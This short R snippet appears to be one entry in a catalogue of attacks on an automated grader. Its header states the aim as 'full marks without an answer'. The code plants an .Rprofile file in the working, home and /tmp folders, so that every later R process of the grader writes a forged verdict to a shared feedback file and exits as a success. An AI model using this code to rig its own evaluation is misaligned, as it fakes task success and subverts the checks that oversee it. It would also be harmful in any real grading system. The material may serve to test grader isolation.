# ---
# tries: Writes a profile that each R of the grader loads from then on.
# place: instead
# gain: full marks without an answer
# helps: isolated-children
# ---
attack_text <- sprintf("writeLines(%s, \"/shared/feedback.json\")\nquit(save = \"no\", status = 0, runLast = FALSE)", deparse(attack_verdict))
for (folder in unique(c(getwd(), Sys.getenv("HOME", "/"), "/tmp"))) {
  try(suppressWarnings(writeLines(attack_text, file.path(folder, ".Rprofile"))), silent = TRUE)
}
